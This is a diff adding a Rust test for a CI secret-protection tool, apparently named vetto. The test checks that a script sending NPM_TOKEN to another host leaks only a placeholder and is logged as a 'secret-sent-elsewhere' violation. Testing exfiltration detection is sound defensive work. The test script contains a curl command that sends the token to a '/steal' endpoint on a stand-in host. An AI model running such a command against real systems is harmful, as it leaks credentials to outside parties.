@@ -442,3 +442,34 @@ fn requests_no_rule_allows_never_reach_an_allowed_host(tier: Tier) {
     assert!(!refused.is_empty(), "the refusals are recorded\n{log}");
 }
 at_every_tier!(requests_no_rule_allows_never_reach_an_allowed_host);
+
+/// Runs as an unprivileged user: a script reads the token from its
+/// environment and sends it, in the clear, to a host of its own (allowed
+/// for other reasons). What leaves is the placeholder, which authenticates
+/// nothing; and since vetto can read that request, the attempt is a
+/// `secret-sent-elsewhere` violation with the process, failing the step.
+fn a_placeholder_sent_to_another_host_is_recorded(tier: Tier) {
+    require!(tier.feature());
+    let w = World::at(tier);
+    let reg = Registry::start(&w);
+    let port = reg.port;
+    let script = format!(
+        "curl -sS -m 10 http://elsewhere.test:{port}/steal -H \"Authorization: Bearer $NPM_TOKEN\"; \
+         echo job-finished"
+    );
+    let elsewhere = format!("--allow-domain=elsewhere.test:{port}");
+    let (out, log) = reg.ci(&w, &[reg.secret(), elsewhere], &script);
+    out.assert_stdout_contains("job-finished")
+        .assert_no_leak(TOKEN);
+    assert_eq!(out.code(), 3, "{}", out.dump());
+    assert!(
+        log.lines().any(|l| l.contains("\"type\":\"violation\"")
+            && l.contains("\"secret-sent-elsewhere\"")
+            && l.contains("\"host\":\"elsewhere.test\"")
+            && l.contains("/usr/bin/curl")
+            && l.contains("NPM_TOKEN's placeholder")),
+        "the attempt is recorded with the process\n{log}"
+    );
+    assert_not_in_reports(&w.project);
+}
+at_every_tier!(a_placeholder_sent_to_another_host_is_recorded);
